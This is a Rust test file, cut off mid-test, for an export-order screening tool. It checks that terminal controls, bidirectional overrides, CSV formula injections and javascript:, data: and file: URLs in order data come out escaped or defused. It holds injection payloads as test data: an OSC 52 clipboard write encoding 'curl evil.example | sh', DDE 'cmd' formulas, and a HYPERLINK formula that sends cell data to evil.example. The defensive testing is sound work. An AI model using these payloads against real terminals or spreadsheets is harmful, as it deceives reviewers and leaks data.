//! Data cannot act on a terminal, a spreadsheet or a browser: order values, list rows, pack
//! text and file names are escaped in every format meant for people (human `check`,
//! `explain`, `test`, `coverage`, `diff`, CSV cells, HTML, diagnostics on stderr), URLs become
//! links only when they are http(s), and a property test holds the human report's verdict
//! line in shape whatever a party name, city or id holds. Order data meets a second defence
//! first: the order readers refuse terminal controls and bidirectional overrides (O117), so an
//! order holding them is an `error` record whose id and quoted values are escaped like any
//! other data; what the readers accept (line breaks, separators, invisible characters,
//! bidirectional marks) is judged and escaped.
use std::path::Path;

use proptest::prelude::*;
use serde_json::Value as Json;

use redflag::diag::{Diagnostic, Diagnostics, Rendered, SourceFile};
use redflag::order::{InputFormat, Record};
use redflag::report::escape::{is_hidden, visible};
use redflag::report::human::HumanReporter;
use redflag::report::Reporter;

use crate::rules::default_engine;
use crate::support::{code, redflag_in, stderr, stdout};

/// The characters no text output may carry raw: ESC, other C0 controls but the line feed
/// ending each line, DEL, C1, the bidirectional controls, the line and paragraph separators,
/// and the invisible characters the tests put in data (zero-width space, word joiner, byte
/// order mark, tag characters).
/// Written out here rather than taken from the escaping module, so the test does not share
/// the code's idea of what is dangerous.
fn forbidden(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{9}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{200b}' | '\u{2060}'
        | '\u{e0000}'..='\u{e007f}')
}

/// Panics, naming the character and where it is, if `text` carries a forbidden character.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    if let Some((at, c)) = text.char_indices().find(|(_, c)| forbidden(*c)) {
        let line = text[..at].matches('\n').count() + 1;
        panic!(
            "{what}: raw U+{:04X} on line {line}:\n{}",
            c as u32,
            visible(text)
        );
    }
}

/// The clean order of the corpus (`SO-1`), with `edit` applied, as one JSON line.
fn order_line(edit: impl FnOnce(&mut Json)) -> String {
    let text = std::fs::read_to_string("fixtures/adversarial/clean-order.jsonl").unwrap();
    let mut order: Json = serde_json::from_str(text.trim()).unwrap();
    edit(&mut order);
    format!("{}\n", serde_json::to_string(&order).unwrap())
}

// Two defences stand between hostile order data and the operator. The order readers refuse,
// as record error O117, text holding a control character other than tab and line breaks (ESC
// and so every terminal control sequence, C1, DEL, backspace, NUL) or a bidirectional
// embedding, override or isolate: such an order becomes an `error` record and is never judged.
// What the readers accept can still deceive a terminal (a carriage return, a line feed, the
// line and paragraph separators, invisible format characters, bidirectional marks), and every
// format escapes it. The tests below give each defence the data it is there for.

/// Accepted by the order readers, so the order is judged and only escaping keeps these off the
/// terminal: a carriage return that redraws the verdict line as CLEAR, a line feed that starts
/// a fake verdict line, the line and paragraph separators (some viewers break lines on them),
/// zero-width characters (a space, a word joiner, a byte order mark) and bidirectional marks
/// (right-to-left, left-to-right, Arabic letter mark).
const REDRAW: &str = "\rCLEAR  SO-1  orders.jsonl:1";
const FAKE_LINE: &str = "\nCLEAR  SO-2  orders.jsonl:2";
const SEPARATORS: &str = "\u{2028}CLEAR\u{2029}";
const INVISIBLE: &str = "\u{200b}\u{2060}\u{feff}";
const MARKS: &str = "\u{200f}KCOLB\u{200e}\u{61c}";

/// Refused by the order readers (O117): an erase-line CSI, an OSC 8 link, an OSC 52 clipboard
/// write, an 8-bit CSI with backspaces and DEL, a right-to-left override and isolates.
const ERASE: &str = "\u{1b}[2K\u{1b}[1G";
const LINK: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\Acme\u{1b}]8;;\u{1b}\\";
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
const OVERTYPE: &str = "\u{9b}2K\u{8}\u{8}\u{7f}";
const OVERRIDE: &str = "\u{202e}KCOLB\u{202c}";
const ISOLATE: &str = "\u{2066}x\u{2069}";

/// A name the readers accept that still hides and reorders: zero-width characters, marks and
/// the line and paragraph separators.
fn deceiving_name() -> String {
    format!("Kim{INVISIBLE} Trading {MARKS}{SEPARATORS}")
}

/// A name the readers refuse: erase-line, an OSC 8 link, a right-to-left override, an OSC 52
/// clipboard write.
fn hostile_name() -> String {
    format!("{ERASE}{LINK} Trading{OVERRIDE}{CLIPBOARD}")
}

/// An order the readers accept and the engine judges: its id redraws its verdict line, it is
/// blocked by the default pack for its North Korean end user (a deceiving name, and a city that
/// starts a fake line), and reviewed by the report fixture pack for its consignee in Dandong
/// (a deceiving name that starts a fake line).
fn deceiving_order() -> String {
    order_line(|o| {
        o["id"] = format!("SO-1{REDRAW}").into();
        o["end_user"]["country"] = "KP".into();
        o["end_user"]["name"] = deceiving_name().into();
        o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}").into();
        o["consignees"][0]["name"] = format!("{}{FAKE_LINE}", deceiving_name()).into();
        o["consignees"][0]["city"] = "Dandong".into();
        o["consignees"][0]["country"] = "CN".into();
    })
}

/// The id of [`refused_order`]: every kind of control the readers refuse, shown in the record
/// error's verdict line.
fn refused_id() -> String {
    format!("SO-2{ERASE}{LINK}{OVERTYPE}{OVERRIDE}")
}

/// What a report shows for [`refused_id`]: each refused character as `\u{HEX}`.
const REFUSED_ID_SHOWN: &str = r"SO-2\u{1b}[2K\u{1b}[1G\u{1b}]8;;https://evil.example/\u{1b}\Acme\u{1b}]8;;\u{1b}\\u{9b}2K\u{8}\u{8}\u{7f}\u{202e}KCOLB\u{202c}";

/// An order the readers refuse (O117) that would otherwise be blocked: its id and every party
/// carry refused controls, and its date an OSC 52 write that the date problem (O109) quotes.
fn refused_order() -> String {
    order_line(|o| {
        o["id"] = refused_id().into();
        o["date"] = format!("2025-01-14{CLIPBOARD}").into();
        o["end_user"]["country"] = "KP".into();
        o["end_user"]["name"] = hostile_name().into();
        o["end_user"]["city"] = format!("Pyongyang{OVERTYPE}{ISOLATE}").into();
        o["consignees"][0]["name"] = format!("{}{FAKE_LINE}", hostile_name()).into();
        o["consignees"][0]["city"] = "Dandong".into();
        o["consignees"][0]["country"] = "CN".into();
    })
}

/// Both orders, the judged one first.
fn hostile_orders() -> String {
    format!("{}{}", deceiving_order(), refused_order())
}

/// The record error lines the human report gives [`refused_order`] (after its verdict line).
const REFUSED_PROBLEMS: [&str; 5] = [
    "  O117 id: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
    r"  O109 date: `2025-01-14\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}` is not a date in the form YYYY-MM-DD",
    "  O117 end_user.name: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
    "  O117 end_user.city: the text holds U+009B, a control character that can hide or reorder what a reviewer sees",
    "  O117 consignees[0].name: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
];

/// A scratch directory holding `files`.
fn scratch(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

/// Copies a fixture directory into `to`.
fn copy_dir(from: &str, to: &Path) {
    for entry in walkdir::WalkDir::new(from)
        .into_iter()
        .filter_map(Result::ok)
    {
        let target = to.join(entry.path().strip_prefix(from).unwrap());
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// The frozen report pack of the snapshots.
const REPORTS_PACK: &str = "fixtures/reports-pack";

const VERDICTS: [&str; 6] = ["BLOCK", "HOLD", "REVIEW", "INFO", "CLEAR", "ERROR"];

/// Lines that start with a verdict word at the left margin: the verdict lines of orders.
fn verdict_lines(text: &str) -> Vec<&str> {
    text.lines()
        .filter(|l| VERDICTS.iter().any(|v| l.starts_with(&format!("{v} "))))
        .collect()
}

// ---- the escaping function ----

#[test]
fn visible_escapes_controls_bidi_and_invisible_characters_and_leaves_text_alone() {
    assert_eq!(visible("\u{1b}[31mred"), "\\u{1b}[31mred");
    assert_eq!(
        visible("a\rb\nc\td\u{8}\u{7f}\u{0}"),
        "a\\u{d}b\\u{a}c\\u{9}d\\u{8}\\u{7f}\\u{0}"
    );
    assert_eq!(visible("\u{9b}2K\u{85}"), "\\u{9b}2K\\u{85}");
    for c in [
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{200e}',
        '\u{200f}',
        '\u{61c}',
        '\u{200b}',
        '\u{2060}',
        '\u{feff}',
        '\u{ad}',
        '\u{2028}',
        '\u{2029}',
        '\u{e0041}',
        // Unassigned tag characters: in no category but Cn, and shown as nothing all the same.
        '\u{e0002}',
        '\u{e001f}',
        '\u{fff9}',
        // Format characters only the Unicode tables know of (an Arabic number sign, a musical
        // beam control): proof the tables, not a fallback list, are read.
        '\u{600}',
        '\u{1d173}',
    ] {
        assert!(is_hidden(c), "U+{:04X}", c as u32);
        assert_eq!(
            visible(&format!("a{c}b")),
            format!("a\\u{{{:x}}}b", c as u32)
        );
    }
    // Text in any script, emoji and the joiners Persian and Indic names need stay as they are,
    // borrowed.
    for text in [
        "Dandong 丹东 Алматы دبي Ελλάδα",
        "می‌خواهم", // ZWNJ
        "क्‍ष",      // ZWJ
        "👩‍🔬 ✔ ✘ · → ",
        "C:\\orders\\a.csv \\u{1b}",
    ] {
        assert!(
            matches!(visible(text), std::borrow::Cow::Borrowed(_)),
            "{text}"
        );
    }
}

#[test]
fn only_http_and_https_urls_may_be_links() {
    use redflag::report::web_url;
    assert_eq!(
        web_url("https://www.bis.gov/x?y=1#z"),
        Some("https://www.bis.gov/x?y=1#z")
    );
    assert_eq!(web_url(" HTTP://example.org "), Some("HTTP://example.org"));
    for bad in [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "\u{1}https://example.org",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "vbscript:msgbox",
        "//evil.example/x",
        "https:///path",
        "https://",
        "https://exa mple.org",
        "https://example.org/\u{202e}gpj.exe",
        "https://example.org/\"onmouseover=\"x",
        "https:\\\\evil.example",
        "/relative/path",
    ] {
        assert_eq!(web_url(bad), None, "{bad:?}");
    }
}

// ---- human `check` ----

#[test]
fn the_human_report_escapes_order_data_and_keeps_one_verdict_line_per_order() {
    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--format",
            "human",
            "--color",
            "never",
        ],
        None,
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let text = stdout(&out);
    assert_inert("human report", &text);
    assert_inert("stderr", &stderr(&out).replace('\n', ""));
    // The accepted order is judged, the refused one is a record error; each has its one
    // verdict line, with its id shown.
    assert_eq!(
        verdict_lines(&text),
        [
            r"BLOCK  SO-1\u{d}CLEAR  SO-1  orders.jsonl:1  orders.jsonl:1".to_string(),
            format!("ERROR  {REFUSED_ID_SHOWN}  orders.jsonl:2"),
        ],
        "{text}"
    );
    assert!(
        text.contains(
            r"Kim\u{200b}\u{2060}\u{feff} Trading \u{200f}KCOLB\u{200e}\u{61c}\u{2028}CLEAR\u{2029}"
        ),
        "{text}"
    );
    let error_block: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("ERROR "))
        .skip(1)
        .take_while(|l| !l.is_empty())
        .collect();
    assert_eq!(error_block, REFUSED_PROBLEMS, "{text}");
    assert!(text.contains("2 read: 1 judged, 1 rejected"), "{text}");

    // The blocks themselves, on the frozen report pack so the snapshot moves only with the
    // format.
    let pack = std::fs::canonicalize(REPORTS_PACK).unwrap();
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--rules",
            pack.to_str().unwrap(),
            "--format",
            "human",
        ],
        None,
    );
    let text = stdout(&out);
    assert_inert("human report", &text);
    assert_eq!(verdict_lines(&text).len(), 2, "{text}");
    let blocks: String = text
        .lines()
        .skip_while(|l| !VERDICTS.iter().any(|v| l.starts_with(v)))
        .take_while(|l| !l.contains(" read: "))
        .map(|l| format!("{l}\n"))
        .collect();
    insta::assert_snapshot!(blocks);
}

#[test]
fn colour_stays_and_only_redflag_writes_escape_sequences() {
    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--format",
            "human",
            "--color",
            "always",
        ],
        None,
    );
    let text = stdout(&out);
    assert!(
        text.contains("\u{1b}[1;31mBLOCK\u{1b}[0m"),
        "{}",
        visible(&text)
    );
    // Every ESC starts one of the report's own SGR sequences (`ESC [ digits ; m`).
    for (at, _) in text.match_indices('\u{1b}') {
        let rest = &text[at + 1..];
        let sgr = rest.strip_prefix('[').map(|r| {
            let body: String = r
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == ';')
                .collect();
            r[body.len()..].starts_with('m')
        });
        assert_eq!(
            sgr,
            Some(true),
            "not a colour code at {at}: {}",
            visible(&text[at..])
        );
    }
    // The refused order's id and the date its problem quotes, with colour around them.
    assert!(text.contains(r"\u{1b}]8;;https://evil.example/\u{1b}\Acme"));
    assert!(text.contains(r"\u{1b}]52;c;"));
    assert!(text.contains(r"\u{2028}CLEAR\u{2029}"));
    let text = text.replace('\n', "");
    let raw = text
        .char_indices()
        .find(|(_, c)| *c != '\u{1b}' && forbidden(*c));
    assert_eq!(raw, None, "{}", visible(&text));
}

// ---- explain, test, coverage, diff ----

#[test]
fn explain_escapes_the_order_it_explains() {
    let dir = scratch(&[("orders.jsonl", &deceiving_order())]);
    let out = redflag_in(
        Some(dir.path()),
        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
        None,
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = stdout(&out);
    assert_inert("explain", &text);
    assert_inert("stderr", &stderr(&out).replace('\n', ""));
    assert!(
        text.contains(r"order SO-1\u{d}CLEAR  SO-1  orders.jsonl:1 (orders.jsonl:1)"),
        "{text}"
    );
    // The result line keeps its form; no data line reads like one.
    let results: Vec<&str> = text.lines().filter(|l| l.starts_with("result:")).collect();
    assert_eq!(results.len(), 1, "{text}");
    assert!(results[0].starts_with("result: fired"), "{text}");
    assert!(text.contains(r"Pyongyang\u{a}CLEAR  SO-2"), "{text}");
    assert!(
        text.contains(
            r"Kim\u{200b}\u{2060}\u{feff} Trading \u{200f}KCOLB\u{200e}\u{61c}\u{2028}CLEAR\u{2029}"
        ),
        "{text}"
    );
}

#[test]
fn explain_of_a_refused_order_names_it_escaped_on_stderr() {
    // One refused order: E003, which names the order and its problems.
    let dir = scratch(&[("orders.jsonl", &refused_order())]);
    let out = redflag_in(
        Some(dir.path()),
        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
        None,
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let err = stderr(&out);
    assert_inert("stdout", &stdout(&out));
    assert_inert("E003", &err.replace('\n', ""));
    // miette wraps long lines, within words too; compare with the wrapping undone.
    let flat = squash(&err);
    assert!(flat.contains("E003"), "{err}");
    assert!(
        flat.contains(&squash(&format!(
            "order `{REFUSED_ID_SHOWN}` on line 1 of `orders.jsonl` could not be read"
        ))),
        "{err}"
    );
    assert!(
        flat.contains(&squash("O117 `id`: the text holds U+001B")),
        "{err}"
    );
    assert!(
        flat.contains(r"`2025-01-14\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}`"),
        "{err}"
    );

    // Both orders and no `--id`: E004 lists their ids, the refused one escaped.
    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
    let out = redflag_in(
        Some(dir.path()),
        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
        None,
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let err = stderr(&out);
    assert_inert("E004", &err.replace('\n', ""));
    let flat = squash(&err);
    assert!(flat.contains("E004"), "{err}");
    assert!(flat.contains(&format!("`{REFUSED_ID_SHOWN}`")), "{err}");
    assert!(
        flat.contains(r"`SO-1\u{d}CLEARSO-1orders.jsonl:1`"),
        "{err}"
    );
}

/// `text` without spaces, line breaks and miette's continuation bars: a diagnostic with its
/// wrapping undone.
fn squash(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && *c != '│')
        .collect()
}

/// The rule-test fixture pack with one more test file. The first case's name carries control
/// sequences (pack text, which no reader refuses), and its order only what the order readers
/// accept (a line feed, zero-width and bidirectional marks), with an id of its own: without
/// one the runner takes the case name as the order's id, and the readers refuse that. Its
/// failing expectation quotes the city. The second case's order carries an ESC and no id, so
/// the readers refuse its name and the id taken from the case name (T040, quoting O117).
fn hostile_rule_tests() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/ruletest/pack", dir.path());
    for broken in ["broken", "failing"] {
        std::fs::remove_dir_all(dir.path().join(broken)).unwrap();
    }
    std::fs::write(
        dir.path().join("tests/hostile.test.toml"),
        r#"
[base]
date = "2024-05-02"
buyer = { name = "Ostalb Feinmechanik GmbH", country = "DE", city = "Aalen" }
items = [{ sku = "WZ-8207", hs = "8207.30" }]

[[case]]
name = "ok\r\u001b[32mPASS\u001b]8;;https://evil.example/\u001b\\ \u202e"
rule = "RT-CITY-001"
expect = { fires = true, values = { watched_city = "Dandong" } }

[case.order]
id = "RT-1"
buyer = { name = "Yalu\u200b\u200f", country = "CN", city = "Dandong\nok    everything passed" }

[[case]]
name = "refused\r\u001b[32mok"
rule = "RT-CITY-001"
expect = { fires = true }

[case.order]
buyer = { name = "Yalu\u001b[2K", country = "CN", city = "Dandong" }
"#,
    )
    .unwrap();
    dir
}

#[test]
fn rule_test_reports_escape_case_names_and_the_values_they_quote() {
    let dir = hostile_rule_tests();
    let out = redflag_in(
        None,
        &["test", dir.path().to_str().unwrap(), "--color", "never"],
        None,
    );
    let text = stdout(&out);
    assert_inert("redflag test", &text);
    assert!(
        text.contains("ok\\u{d}\\u{1b}[32mPASS\\u{1b}]8;;https://evil.example/\\u{1b}\\ \\u{202e}"),
        "{text}"
    );
    // The case fails (the city is not Dandong), and its reason quotes the city; no line is
    // forged.
    assert!(text.contains("FAIL"), "{text}");
    assert!(
        text.contains("`Dandong\\u{a}ok    everything passed`"),
        "{text}"
    );
    assert!(
        !text
            .lines()
            .any(|l| l.trim_start().starts_with("ok    everything")),
        "{text}"
    );
    // The refused order is an error of its case, named escaped.
    assert!(
        text.contains(r"ERROR refused\u{d}\u{1b}[32mok (RT-CITY-001)"),
        "{text}"
    );
    assert!(
        text.contains(r"T040 order `refused\u{d}\u{1b}[32mok` cannot be read: O117 `buyer.name`: the text holds U+001B, a control character that can hide or reorder what a reviewer sees; O117 `id`"),
        "{text}"
    );
    assert_inert("stderr", &stderr(&out).replace('\n', ""));

    // JUnit, which CI pages show, the same way.
    let out = redflag_in(
        None,
        &["test", dir.path().to_str().unwrap(), "--format", "junit"],
        None,
    );
    let xml = stdout(&out);
    assert_inert("junit", &xml.replace('\n', ""));
    assert!(
        xml.contains(
            "name=\"ok\\u{d}\\u{1b}[32mPASS\\u{1b}]8;;https://evil.example/\\u{1b}\\ \\u{202e}\""
        ),
        "{xml}"
    );
    assert!(
        xml.contains("Dandong\\u{a}ok    everything passed"),
        "{xml}"
    );
    assert!(
        xml.contains(r#"<testcase name="refused\u{d}\u{1b}[32mok""#),
        "{xml}"
    );
    assert!(
        xml.contains(r#"message="order `refused\u{d}\u{1b}[32mok` cannot be read"#),
        "{xml}"
    );
}

#[test]
fn coverage_in_text_and_markdown_escapes_the_catalogue() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/coverage/pack", dir.path());
    let catalogue = dir.path().join("catalogue.toml");
    let text = std::fs::read_to_string(&catalogue).unwrap().replace(
        "title = \"Goods through a risky city\"",
        "title = \"Goods\\u001b]8;;https://evil.example/\\u001b\\\\ through\\r\\u001b[2K a \\u202Erisky city\\n| x | y |\"",
    );
    assert!(text.contains("evil.example"));
    std::fs::write(&catalogue, text).unwrap();
    for format in ["human", "markdown"] {
        let out = redflag_in(
            None,
            &[
                "coverage",
                "--rules",
                dir.path().to_str().unwrap(),
                "--format",
                format,
            ],
            None,
        );
        let text = stdout(&out);
        assert_inert(format, &text);
        assert!(
            text.contains("Goods\\u{1b}]8;;https://evil.example/\\u{1b}"),
            "{format}:\n{text}"
        );
        assert!(text.contains("\\u{202e}risky"), "{format}:\n{text}");
    }
}

#[test]
fn diff_escapes_ids_and_files_of_both_reports() {
    let dir = scratch(&[
        ("a.jsonl", &order_line(|o| o["id"] = "SO-1".into())),
        ("b.jsonl", &hostile_orders()),
    ]);
    for (input, report) in [("a.jsonl", "a.json"), ("b.jsonl", "b.json")] {
        let out = redflag_in(
            Some(dir.path()),
            &["check", input, "--format", "json", "-o", report],
            None,
        );
        assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
    }
    let out = redflag_in(Some(dir.path()), &["diff", "a.json", "b.json"], None);
    let text = stdout(&out);
    assert_inert("diff", &text);
    assert!(
        text.contains(r"SO-1\u{d}CLEAR  SO-1  orders.jsonl:1"),
        "{text}"
    );
    assert!(text.contains(REFUSED_ID_SHOWN), "{text}");
}

// ---- CSV ----

#[test]
fn csv_cells_are_escaped_and_cannot_run_as_formulas() {
    let orders = [
        order_line(|o| {
            o["id"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        }),
        order_line(|o| {
            o["id"] = "\t=1+1".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = "-2+3+cmd|' /C calc'!A0".into();
            o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}{SEPARATORS}{INVISIBLE}").into();
        }),
        order_line(|o| {
            o["id"] = "+1".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = " =1+1".into();
        }),
        // Refused by the readers: an `error` row, its id a formula that erases the line.
        order_line(|o| {
            o["id"] = format!("=cmd|' /C calc'!A0{ERASE}").into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = hostile_name().into();
        }),
    ]
    .concat();
    let dir = scratch(&[("orders.jsonl", &orders)]);
    let out = redflag_in(
        Some(dir.path()),
        &["check", "orders.jsonl", "--format", "csv"],
        None,
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let text = stdout(&out);
    // Only the row terminators are control characters.
    assert_inert("csv", &text.replace('\n', ""));
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(rows.len() >= 5, "{text}");
    for row in &rows {
        for cell in row {
            let text = cell.trim_start_matches(' ');
            let formula = match text.chars().next() {
                Some('=' | '+' | '@' | '\t' | '\r') => true,
                Some('-') => text.len() > 1,
                _ => false,
            };
            assert!(!formula, "a formula cell: {cell:?}");
        }
    }
    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert!(
        ids.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")"),
        "{ids:?}"
    );
    // The loader trims the tab off the id; the formula left is defused.
    assert!(ids.contains(&"'=1+1"), "{ids:?}");
    assert!(ids.contains(&"'+1"), "{ids:?}");
    let messages: Vec<&str> = rows.iter().map(|r| &r[10]).collect();
    assert!(
        messages.iter().any(|m| m.starts_with("'@SUM(1+1)")),
        "{messages:?}"
    );
    assert!(
        messages.iter().any(|m| m.starts_with("'-2+3")),
        "{messages:?}"
    );
    // Names are trimmed on loading; the formula left is defused all the same.
    assert!(
        messages.iter().any(|m| m.starts_with("'=1+1")),
        "{messages:?}"
    );
    assert!(
        messages.iter().any(|m| m.contains(
            r"Pyongyang\u{a}CLEAR  SO-2  orders.jsonl:2\u{2028}CLEAR\u{2029}\u{200b}\u{2060}\u{feff}"
        )),
        "{messages:?}"
    );
    let refused: Vec<&csv::StringRecord> = rows
        .iter()
        .filter(|r| &r[0] == r"'=cmd|' /C calc'!A0\u{1b}[2K\u{1b}[1G")
        .collect();
    assert_eq!(refused.len(), 2, "{text}");
    for row in &refused {
        assert_eq!(&row[3], "error", "{row:?}");
    }
    assert_eq!(
        &refused[0][10],
        "O117 id: the text holds U+001B, a control character that can hide or reorder what a reviewer sees"
    );
    assert!(refused[1][10].starts_with("O117 end_user.name:"), "{text}");
    assert_inert("stderr", &stderr(&out).replace('\n', ""));
}

// ---- SARIF and HTML: links ----

/// The report fixture pack, with the border rule's references pointing at `javascript:` first
/// and the payment rules' at `data:` and `file:` only.
fn pack_with_hostile_urls() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/reports-pack", dir.path());
    let border = dir.path().join("rules/border.toml");
    let text = std::fs::read_to_string(&border).unwrap().replace(
        "references = [\n",
        "references = [\n  { cite = \"click me\", url = \"javascript:alert(document.domain)\" },\n",
    );
    std::fs::write(&border, text).unwrap();
    let payment = dir.path().join("rules/payment.toml");
    let text = std::fs::read_to_string(&payment)
        .unwrap()
        .replace(
            "url = \"https://www.bis.gov/articles/red-flag-indicators\"",
            "url = \"data:text/html,<script>alert(1)</script>\"",
        )
        .replace(
            "{ cite = \"DOJ/Treasury/Commerce",
            "{ cite = \"local copy\", url = \"file:///etc/passwd\" },\n  { cite = \"DOJ/Treasury/Commerce",
        );
    std::fs::write(&payment, text).unwrap();
    dir
}

#[test]
fn sarif_help_uri_is_only_ever_a_web_url() {
    let pack = pack_with_hostile_urls();
    let out = redflag_in(
        None,
        &[
            "check",
            "--rules",
            pack.path().to_str().unwrap(),
            "--format",
            "sarif",
            "fixtures/orders/sample.jsonl",
        ],
        None,
    );
    assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
    let doc: Json = serde_json::from_str(&stdout(&out)).unwrap();
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    let rule = |id: &str| rules.iter().find(|r| r["id"] == id).unwrap();
    // The first web URL, not the first URL.
    assert_eq!(
        rule("RF-BORDER-001")["helpUri"],
        "https://www.bis.gov/articles/red-flag-indicators"
    );
    // No web URL at all: no helpUri; the URLs stay in the help text, as text.
    for id in ["RF-CASH-001", "RF-PAYER-001"] {
        assert!(rule(id).get("helpUri").is_none(), "{}", rule(id));
    }
    assert!(rule("RF-PAYER-001")["help"]["text"]
        .as_str()
        .unwrap()
        .contains("local copy <file:///etc/passwd>"));
    let text = stdout(&out).to_lowercase();
    for scheme in ["javascript:", "data:", "file:"] {
        assert!(
            !text.contains(&format!("\"helpuri\":\"{scheme}")),
            "{scheme}"
        );
    }
}

#[test]
fn html_links_only_web_urls_and_isolates_and_escapes_bidi_in_data() {
    let pack = pack_with_hostile_urls();
    let orders = [
        // Judged: bidirectional marks, which the readers accept.
        order_line(|o| {
            o["id"] = "SO-1\u{61c}RAELC\u{200f}".into();
            o["end_user"]["country"] = "KP".into();
            o["consignees"][0]["city"] = "Dandong".into();
            o["consignees"][0]["country"] = "CN".into();
            o["consignees"][0]["name"] = "\u{200f}شركة\u{200e} Trading".into();
            o["payment"]["method"] = "cash".into();
        }),
        // Refused: an override in the id, isolates in a name.
        order_line(|o| {
            o["id"] = "SO-2\u{202e}RAELC\u{202c}".into();
            o["end_user"]["country"] = "KP".into();
            o["consignees"][0]["name"] = "\u{2067}شركة\u{2069} Trading".into();
        }),
    ]
    .concat();
    let dir = scratch(&[("orders.jsonl", &orders)]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "--rules",
            pack.path().to_str().unwrap(),
            "--format",
            "html",
            "orders.jsonl",
        ],
        None,
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let html = stdout(&out);
    assert_inert("html", &html.replace('\n', ""));
    assert_inert("stderr", &stderr(&out).replace('\n', ""));
    let lower = html.to_lowercase();
    for scheme in ["javascript:", "data:", "file:"] {
        assert!(
            !lower.contains(&format!("href=\"{scheme}")),
            "a {scheme} link"
        );
    }
    assert!(html.contains("click me &lt;javascript:alert(document.domain)&gt;"));
    assert!(html.contains("<a href=\"https://www.bis.gov/articles/red-flag-indicators\""));
    assert!(
        html.contains(r#"<span class="oid"><bdi>SO-1\u{61c}RAELC\u{200f}</bdi></span>"#),
        "{html}"
    );
    assert!(html.contains(r"\u{200f}شركة\u{200e} Trading"), "{html}");
    assert!(
        html.contains(r#"<span class="badge b-error">error</span><span class="oid"><bdi>SO-2\u{202e}RAELC\u{202c}</bdi></span>"#),
        "{html}"
    );
    assert!(
        html.contains("<code>O117</code> <code>consignees[0].name</code>: the text holds U+2067"),
        "{html}"
    );
}

#[test]
fn sarif_artifact_uris_cannot_read_as_a_scheme_or_a_host() {
    use redflag::report::sarif::uri;
    assert_eq!(uri("javascript:alert(1)"), "javascript%3Aalert(1)");
    assert_eq!(uri("C:\\orders\\a.csv"), "C%3A/orders/a.csv");
    assert_eq!(uri("//evil.example/x.jsonl"), "/%2Fevil.example/x.jsonl");
    assert_eq!(uri("orders/a:b.jsonl"), "orders/a:b.jsonl");
    assert_eq!(uri("a\u{1b}[2K.jsonl"), "a%1B%5B2K.jsonl");
    assert_eq!(uri("-"), "-");
}

// ---- diagnostics on stderr ----

#[test]
fn list_row_problems_on_stderr_are_escaped() {
    let list = [
        r#"{"id": "e1", "schema": "Company", "datasets": ["watch"], "properties": {"name": ["Vostok Trading"], "country": ["ru"]}}"#,
